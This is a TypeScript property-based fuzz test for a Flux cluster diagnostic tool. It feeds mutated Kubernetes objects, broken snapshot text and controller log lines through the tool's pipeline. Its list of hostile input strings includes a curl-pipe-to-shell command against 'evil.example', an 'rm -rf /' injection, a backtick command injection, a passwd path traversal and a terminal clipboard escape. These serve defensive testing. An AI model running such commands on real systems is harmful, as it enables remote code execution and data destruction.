// Property-based fuzzing of the whole pipeline (issue 8): mutated real Flux objects, random
// objects, whole snapshots as YAML/JSON text (broken text too) and controller log lines go through
// read → Graph → diagnose → every renderer and every view (test/pipeline.ts).
//
// Properties: no exception escapes; the same input gives the same output; and no control, bidi or
// zero-width character reaches any output.
//
// A fixed seed and a bounded count run in `npm test` (well under 30 s). A longer run:
//   FUZZ_RUNS=20000 node --import tsx --test test/fuzz.test.ts
// (FUZZ_SEED=<n> picks another seed; a failure prints the seed and path that reproduce it.)

import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import fc from 'fast-check';
import { dump, loadAll } from 'js-yaml';
import { KINDS } from '../src/kinds/table.js';
import { controlCharacters, type Outputs, realCorpus, runPipeline } from './pipeline.js';

const RUNS = Number(process.env.FUZZ_RUNS ?? 0) || 0;
const SEED = Number(process.env.FUZZ_SEED ?? 20261202);
/** Runs of each property: the default keeps the file fast; FUZZ_RUNS scales all of them. */
const runs = (n: number) => (RUNS > 0 ? Math.max(1, Math.round((RUNS * n) / 400)) : n);

// ---------- the real input the mutations start from ----------

// biome-ignore lint/suspicious/noExplicitAny: decoded documents are untyped
type Doc = Record<string, any>;

const CORPUS = realCorpus().map((c) => {
  const objects: Doc[] = [];
  for (const [, text] of c.files) {
    for (const d of loadAll(text) as Doc[]) {
      if (!d || typeof d !== 'object') continue;
      if (Array.isArray(d.items)) objects.push(...d.items.filter((i: unknown) => i && typeof i === 'object'));
      else objects.push(d);
    }
  }
  const logs = c.logs.split('\n').filter((l) => l.trim());
  return { name: c.name, objects, logs };
});
const LOG_POOL = CORPUS.flatMap((c) => c.logs).slice(0, 400);

/** At most this many objects per snapshot (a window of one corpus, so references still connect). */
const WINDOW = 14;

// ---------- hostile values ----------

const deepArray = (n: number): unknown => {
  let v: unknown = 'bottom';
  for (let i = 0; i < n; i++) v = [v];
  return v;
};
const deepObject = (n: number): unknown => {
  let v: unknown = { message: 'bottom' };
  for (let i = 0; i < n; i++) v = { a: v };
  return v;
};

const NASTY_STRINGS = [
  '',
  ' ',
  '\n',
  'line one\nline two\n✓ No problems found',
  '\u001b[2J\u001b[H',
  '\u001b]52;c;ZWNobyBwd25lZA==\u0007',
  '\u0007\u0008\u007f\u0085\u009b31m',
  'abc\u202eevil\u202c',
  '\u2066isolate\u2069',
  'zero\u200bwidth\u200d\ufeff',
  'sep\u2028ara\u2029tor',
  '$(curl -s https://evil.example/x | sh)',
  '`id`;id&&id|id',
  "'; rm -rf / #",
  '../../etc/passwd',
  '.',
  '..',
  'a/b/c',
  'flux-system/apps',
  'ns_name_apps_Deployment',
  '___',
  '%00%2e%2e',
  '{{ .Values.x }}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion in cluster text, on purpose
  '${HOME}',
  'Ready',
  'True',
  'False',
  'DependencyNotReady',
  "dependency 'flux-system/infra' is not ready",
  '2024-13-45T99:99:99Z',
  'not a time',
  '9999-12-31T23:59:59Z',
  '0001-01-01T00:00:00Z',
  '𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧 ﷽',
  'x'.repeat(3000),
  'https://user:p%40ss@example.com/repo.git',
  `${'a:'.repeat(400)}@`,
  'constructor',
  '__proto__',
  'toString',
];

const hostile: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(
      null,
      0,
      -1,
      1.5,
      2 ** 53,
      1e300,
      -1e300,
      true,
      false,
      [],
      {},
      [null],
      [1, 'a', null],
      { name: 5 },
      [{ type: 5, status: {} }],
      [{ name: null }],
    ),
  },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 2, maxKeys: 4 }) },
  { weight: 1, arbitrary: fc.constantFrom(deepArray(400), deepObject(400)) },
);

// ---------- mutating objects ----------

/** Paths the graph, engine, rules and views read (mutations aim there more often than at random). */
const HOT_PATHS: string[][] = [
  ['metadata'],
  ['metadata', 'name'],
  ['metadata', 'namespace'],
  ['metadata', 'labels'],
  ['metadata', 'labels', 'kustomize.toolkit.fluxcd.io/name'],
  ['metadata', 'labels', 'helm.toolkit.fluxcd.io/name'],
  ['metadata', 'annotations'],
  ['metadata', 'ownerReferences'],
  ['metadata', 'ownerReferences', '0', 'kind'],
  ['metadata', 'generation'],
  ['metadata', 'creationTimestamp'],
  ['metadata', 'uid'],
  ['spec'],
  ['spec', 'suspend'],
  ['spec', 'interval'],
  ['spec', 'timeout'],
  ['spec', 'url'],
  ['spec', 'sourceRef'],
  ['spec', 'sourceRef', 'name'],
  ['spec', 'sourceRef', 'namespace'],
  ['spec', 'chartRef'],
  ['spec', 'chart'],
  ['spec', 'chart', 'spec', 'sourceRef'],
  ['spec', 'chart', 'spec', 'version'],
  ['spec', 'dependsOn'],
  ['spec', 'dependsOn', '0'],
  ['spec', 'dependsOn', '0', 'name'],
  ['spec', 'valuesFrom'],
  ['spec', 'valuesFrom', '0', 'name'],
  ['spec', 'secretRef'],
  ['spec', 'healthChecks'],
  ['spec', 'postBuild', 'substituteFrom'],
  ['spec', 'replicas'],
  ['spec', 'containers'],
  ['spec', 'template', 'spec', 'containers'],
  ['status'],
  ['status', 'conditions'],
  ['status', 'conditions', '0'],
  ['status', 'conditions', '0', 'type'],
  ['status', 'conditions', '0', 'status'],
  ['status', 'conditions', '0', 'reason'],
  ['status', 'conditions', '0', 'message'],
  ['status', 'conditions', '0', 'lastTransitionTime'],
  ['status', 'observedGeneration'],
  ['status', 'inventory'],
  ['status', 'inventory', 'entries'],
  ['status', 'inventory', 'entries', '0', 'id'],
  ['status', 'artifact'],
  ['status', 'artifact', 'url'],
  ['status', 'artifact', 'revision'],
  ['status', 'history'],
  ['status', 'history', '0', 'status'],
  ['status', 'lastScanResult'],
  ['status', 'replicas'],
  ['status', 'readyReplicas'],
  ['status', 'containerStatuses'],
  ['status', 'containerStatuses', '0', 'state'],
  ['status', 'containerStatuses', '0', 'state', 'waiting', 'message'],
  ['status', 'containerStatuses', '0', 'lastState', 'terminated', 'reason'],
  ['status', 'initContainerStatuses'],
  ['status', 'phase'],
  ['involvedObject'],
  ['involvedObject', 'name'],
  ['message'],
  ['count'],
  ['lastTimestamp'],
  ['kind'],
  ['apiVersion'],
];

/** Every path present in a value (bounded), to mutate fields the hot list does not name. */
function pathsOf(v: unknown, max = 200): string[][] {
  const out: string[][] = [];
  const stack: [unknown, string[]][] = [[v, []]];
  while (stack.length > 0 && out.length < max) {
    const [x, p] = stack.pop()!;
    if (p.length > 0) out.push(p);
    if (x && typeof x === 'object' && p.length < 8) {
      for (const k of Object.keys(x).slice(0, 20)) stack.push([(x as Doc)[k], [...p, k]]);
    }
  }
  return out;
}

function setPath(o: Doc, path: string[], value: unknown, remove: boolean): void {
  let cur: Doc = o;
  for (let i = 0; i < path.length - 1; i++) {
    const k = path[i]!;
    if (cur[k] === null || typeof cur[k] !== 'object') cur[k] = /^\d+$/.test(path[i + 1]!) ? [] : {};
    cur = cur[k];
  }
  const last = path[path.length - 1]!;
  if (remove) delete cur[last];
  else cur[last] = value;
}

interface Mutation {
  target: number;
  hot: boolean;
  path: number;
  value: unknown;
  remove: boolean;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  target: fc.nat(),
  hot: fc.boolean(),
  path: fc.nat(),
  value: hostile,
  remove: fc.boolean(),
});

function mutate(objects: Doc[], ms: Mutation[]): void {
  if (objects.length === 0) return;
  for (const m of ms) {
    const o = objects[m.target % objects.length]!;
    const paths = m.hot ? HOT_PATHS : pathsOf(o);
    if (paths.length === 0) continue;
    setPath(o, paths[m.path % paths.length]!, m.value, m.remove);
  }
}

// ---------- whole snapshots as text ----------

type Format = 'yaml-stream' | 'yaml-list' | 'json-list' | 'json-lines' | 'fluxdoctor';

function serialise(objects: Doc[], format: Format, info: unknown): string {
  // JSON first: it turns values YAML cannot write (undefined, functions) into what a file could hold.
  const clean = JSON.parse(JSON.stringify(objects)) as Doc[];
  switch (format) {
    case 'yaml-stream':
      return clean.map((o) => dump(o, { noRefs: true, lineWidth: -1 })).join('---\n');
    case 'yaml-list':
      return dump({ apiVersion: 'v1', kind: 'List', items: clean }, { noRefs: true, lineWidth: -1 });
    case 'json-list':
      return JSON.stringify({ apiVersion: 'v1', kind: 'List', items: clean });
    case 'json-lines':
      return clean.map((o) => JSON.stringify(o)).join('\n');
    case 'fluxdoctor':
      return JSON.stringify({ apiVersion: 'fluxdoctor.io/v1', kind: 'Snapshot', info, items: clean });
  }
}

const format = fc.constantFrom<Format>('yaml-stream', 'yaml-list', 'json-list', 'json-lines', 'fluxdoctor');

const info = fc.oneof(
  fc.constant(undefined),
  fc.record(
    {
      capturedAt: fc.oneof(fc.constant('2026-11-24T10:00:00Z'), hostile),
      fluxNamespace: fc.oneof(fc.constant('flux-system'), hostile),
      kindsRead: fc.oneof(fc.constant(['Kustomization', 'HelmRelease']), hostile),
      readErrors: fc.oneof(fc.constant([{ source: 'Bucket', message: 'forbidden' }]), hostile),
      namespace: hostile,
    },
    { requiredKeys: [] },
  ),
  hostile,
);

interface SnapshotCase {
  corpus: number;
  start: number;
  mutations: Mutation[];
  format: Format;
  info: unknown;
  logs: string[];
}

function windowOf(corpus: number, start: number): Doc[] {
  const c = CORPUS[corpus % CORPUS.length]!;
  const from = c.objects.length <= WINDOW ? 0 : start % (c.objects.length - WINDOW + 1);
  return structuredClone(c.objects.slice(from, from + WINDOW));
}

// ---------- log lines ----------

const logLine: fc.Arbitrary<string> = fc.oneof(
  fc.nat().map((i) => LOG_POOL[i % LOG_POOL.length] ?? '{}'),
  fc
    .record({
      base: fc.nat(),
      key: fc.constantFrom('level', 'ts', 'msg', 'error', 'controllerKind', 'name', 'namespace', 'controller', 'alert'),
      value: hostile,
    })
    .map(({ base, key, value }) => {
      let o: Doc;
      try {
        o = JSON.parse(LOG_POOL[base % LOG_POOL.length] ?? '{}');
      } catch {
        o = {};
      }
      o[key] = value;
      try {
        return JSON.stringify(o);
      } catch {
        return '{}';
      }
    }),
  fc
    .record(
      {
        level: hostile,
        ts: fc.oneof(hostile, fc.double(), fc.constant(1e20)),
        msg: fc.oneof(fc.constantFrom(...NASTY_STRINGS), hostile),
        controllerKind: fc.constantFrom('Kustomization', 'HelmRelease', 'GitRepository', 'Alert'),
        name: hostile,
        namespace: hostile,
        error: hostile,
        Kustomization: hostile,
        alert: hostile,
      },
      { requiredKeys: ['msg'] },
    )
    .map((o) => JSON.stringify(o) ?? '{}'),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.constantFrom('[pod/source-controller-0/manager] {"level":"error","msg":"x"}', '{', '{"msg":', 'null', '[]', '1'),
);

// ---------- running ----------

let cases = 0;
const violations = new Map<string, string>();
/** FUZZ_COLLECT=1: record each distinct crash site and go on, instead of stopping at the first. */
const COLLECT = process.env.FUZZ_COLLECT === '1';
const crashes = new Map<string, { count: number; message: string }>();

function crashSite(e: unknown): string {
  const frames = String((e as Error)?.stack ?? e)
    .split('\n')
    .filter((l) => l.includes('/src/'));
  return (
    frames[0]
      ?.trim()
      .replace(/^at /, '')
      .replace(/\(.*\/src\//, '(src/') ?? String(e)
  );
}

/** Run the pipeline twice: it must not throw, and must give the same outputs. */
function check(files: [string, string][], logs?: string): void {
  cases++;
  const input = { files, ...(logs !== undefined ? { logs } : {}) };
  let first: Outputs;
  try {
    first = runPipeline(input);
  } catch (e) {
    if (COLLECT) {
      const site = crashSite(e);
      const c = crashes.get(site) ?? { count: 0, message: String((e as Error).message).slice(0, 160) };
      c.count++;
      crashes.set(site, c);
      return;
    }
    throw new Error(`pipeline threw: ${(e as Error).stack ?? e}`);
  }
  const second = runPipeline(input);
  for (const name of Object.keys(first)) {
    if (first[name] !== second[name]) throw new Error(`output "${name}" differs between two runs of the same input`);
  }
  assert.deepEqual(Object.keys(second), Object.keys(first));
  for (const v of controlCharacters(first)) {
    const name = v.split(':')[0]!;
    if (!violations.has(name)) violations.set(name, v);
  }
}

const params = (numRuns: number) => ({ seed: SEED, numRuns: runs(numRuns), endOnFailure: true });

describe('fuzz: read → graph → diagnose → every renderer and view', () => {
  after(() => {
    // The counts for the report (visible with --test-reporter=spec).
    console.log(`# fuzz: ${cases} cases run, seed ${SEED}`);
    if (COLLECT) {
      console.log(`# fuzz: ${crashes.size} distinct crash sites`);
      for (const [site, c] of crashes) console.log(`#   ${c.count}× ${site}: ${c.message}`);
    }
  });

  it('the real corpus itself goes through every output', () => {
    for (const c of realCorpus()) check(c.files, c.logs);
  });

  it('mutated real objects (wrong types, nulls, hostile strings, deep values, missing fields)', () => {
    fc.assert(
      fc.property(
        fc.record({
          corpus: fc.nat(),
          start: fc.nat(),
          mutations: fc.array(mutation, { minLength: 1, maxLength: 8 }),
          format,
          info,
          logs: fc.array(logLine, { maxLength: 4 }),
        }),
        (s: SnapshotCase) => {
          const objects = windowOf(s.corpus, s.start);
          mutate(objects, s.mutations);
          check([['fuzz.yaml', serialise(objects, s.format, s.info)]], s.logs.join('\n'));
        },
      ),
      params(120),
    );
  });

  it('random objects of every known kind', () => {
    const kinds = KINDS.filter((k) => k.group !== undefined || k.kind === 'Pod');
    const object = fc
      .record(
        {
          kind: fc.nat(),
          version: fc.nat(),
          metadata: fc.oneof(
            fc.record(
              {
                name: fc.oneof(fc.constantFrom('a', 'b', 'flux-system', 'apps'), hostile),
                namespace: fc.oneof(fc.constant('flux-system'), hostile),
                labels: fc.oneof(fc.dictionary(fc.string({ maxLength: 5 }), hostile, { maxKeys: 3 }), hostile),
                ownerReferences: hostile,
                generation: hostile,
              },
              { requiredKeys: [] },
            ),
            hostile,
          ),
          spec: fc.oneof(
            fc.record(
              { dependsOn: hostile, sourceRef: hostile, chart: hostile, suspend: hostile, interval: hostile },
              { requiredKeys: [] },
            ),
            hostile,
          ),
          status: fc.oneof(
            fc.record(
              {
                conditions: fc.oneof(
                  fc.array(
                    fc.record(
                      {
                        type: fc.oneof(fc.constantFrom('Ready', 'Stalled', 'Reconciling'), hostile),
                        status: fc.oneof(fc.constantFrom('True', 'False', 'Unknown'), hostile),
                        reason: hostile,
                        message: hostile,
                        lastTransitionTime: hostile,
                      },
                      { requiredKeys: [] },
                    ),
                    { maxLength: 3 },
                  ),
                  hostile,
                ),
                observedGeneration: hostile,
                inventory: hostile,
                artifact: hostile,
                containerStatuses: hostile,
                history: hostile,
              },
              { requiredKeys: [] },
            ),
            hostile,
          ),
        },
        { requiredKeys: ['kind', 'version', 'metadata'] },
      )
      .map(({ kind, version, ...rest }) => {
        const k = kinds[kind % kinds.length]!;
        const v = k.versions[version % k.versions.length]!;
        return { apiVersion: k.group ? `${k.group}/${v}` : v, kind: k.kind, ...rest };
      });
    fc.assert(
      fc.property(fc.array(object, { minLength: 1, maxLength: 8 }), format, (objects, f) => {
        check([['random.yaml', serialise(objects, f, undefined)]]);
      }),
      params(60),
    );
  });

  it('broken snapshot text (truncated, spliced, random bytes)', () => {
    fc.assert(
      fc.property(
        fc.nat(),
        format,
        fc.nat(),
        fc.oneof(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom(...NASTY_STRINGS)),
        fc.boolean(),
        (corpus, f, at, insert, truncate) => {
          const text = serialise(windowOf(corpus, 0), f, { capturedAt: '2026-11-24T10:00:00Z' });
          const i = at % (text.length + 1);
          const broken = truncate ? text.slice(0, i) : text.slice(0, i) + insert + text.slice(i);
          check([['broken.yaml', broken]]);
        },
      ),
      params(60),
    );
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => check([['noise.yaml', text]])),
      params(30),
    );
  });

  it('controller log lines (mutated real lines, random fields, garbage)', () => {
    const base = CORPUS.find((c) => c.name.endsWith('multi-hop')) ?? CORPUS[0]!;
    const files: [string, string][] = [
      ['cluster.json', JSON.stringify({ kind: 'List', apiVersion: 'v1', items: base.objects.slice(0, WINDOW) })],
    ];
    fc.assert(
      fc.property(fc.array(logLine, { minLength: 1, maxLength: 12 }), (lines) => check(files, lines.join('\n'))),
      params(60),
    );
  });

  it('no control, bidi or zero-width character reaches any output', () => {
    assert.deepEqual([...violations.values()].sort(), []);
  });
});
